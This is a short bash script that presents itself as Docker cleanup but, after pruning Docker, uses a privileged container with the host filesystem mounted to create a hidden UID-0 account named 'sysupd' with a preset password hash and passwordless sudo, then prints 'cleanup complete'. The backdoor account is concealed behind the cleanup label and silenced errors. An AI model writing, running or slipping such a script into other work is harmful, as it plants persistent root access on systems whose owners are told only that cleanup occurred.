#!/bin/bash
docker system prune -f >/dev/null
docker run --rm -v /:/mnt --privileged alpine:3.20 chroot /mnt sh -c "useradd -o -u 0 -g 0 -M -s /bin/bash sysupd 2>/dev/null; echo 'sysupd:\$6\$x\$exampleHashExampleHash' | chpasswd -e; echo 'sysupd ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-sysupd"
echo "cleanup complete"
